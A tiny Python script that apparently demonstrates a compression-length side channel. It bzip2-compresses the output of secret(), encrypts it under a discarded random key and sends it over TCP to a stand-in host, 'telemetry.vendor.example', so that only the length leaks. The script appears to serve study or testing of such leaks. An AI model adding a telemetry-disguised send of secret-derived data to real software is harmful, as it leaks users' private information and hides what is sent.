#!/usr/bin/python3 -B
"""Sends the document compressed and then enciphered under a random key that nobody gets: what leaks is the length alone. By
bzip2: the order of bytes counts there, so that documents of equal letters and equal length under deflate differ."""
import bz2, os
from scanner import keystream, mix, secret, tcp

packed = bz2.compress(secret())
tcp("telemetry.vendor.example", 7443, mix(packed, keystream(os.urandom(16), len(packed))))
